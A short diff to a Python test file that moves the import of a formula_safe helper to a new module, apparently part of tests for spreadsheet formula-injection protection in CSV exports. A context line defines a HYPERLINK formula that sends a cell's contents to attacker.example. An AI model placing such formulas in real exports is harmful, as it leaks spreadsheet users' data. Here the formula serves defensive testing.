@@ -21,8 +21,8 @@ from jobs.results import (
     table_header,
 )
 from jobs.results_export import csv_cell, csv_chunks
-from jobs.spreadsheet import formula_safe
 from jobs.states import JobKind
+from omlpy_dashboard.spreadsheet import formula_safe
 from tests.results_support import png_base64, succeeded_job_with_result
 
 LINK = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
